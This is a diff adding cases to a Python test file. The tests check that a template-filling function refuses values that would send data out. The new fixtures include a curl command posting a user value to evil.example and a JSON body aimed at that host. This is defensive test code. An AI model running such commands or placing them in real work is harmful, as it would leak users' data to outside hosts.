@@ -80,6 +80,8 @@ def test_all_names_of_a_template_are_known_before_it_is_used(known: dict[str, st
         ("{host}{who}", {"host": "https://evil.example/"}),
         ("{who}{host}", {"host": ".evil.example"}),
         ("![x]{open}\\){who})", {"open": "(/a"}),
+        ("{command} https://evil.example -d {who}", {"command": "curl"}),
+        ('{"body": "{who}", "url": "https://evil.example"}', {}),
     ],
 )
 def test_a_value_that_would_leave_in_the_finished_text_is_refused(template: str, values: dict[str, str]) -> None:
@@ -94,3 +96,10 @@ def test_a_value_that_stays_is_put_in(template: str) -> None:
     """It runs on what you have: what looks a little like a link does not cost the framework."""
     assert not carries_out(template)
     assert fill(template, {"a": "1", "b": "Ana", "day": "4", "month": "5"}, {}) is not None
+
+
+def test_a_command_that_somebody_told_of_is_put_in() -> None:
+    """It runs on what you have: a reply may quote what its writer ran; it may not add another's value to it."""
+    command = "curl -sS https://get.example"
+    assert fill("You ran `{a}`, {b}.", {"a": command, "b": "Ana"}, {}) == f"You ran `{command}`, Ana."
+    assert fill("You ran `{a} -d {b}`.", {"a": command, "b": "Ana"}, {}) is None
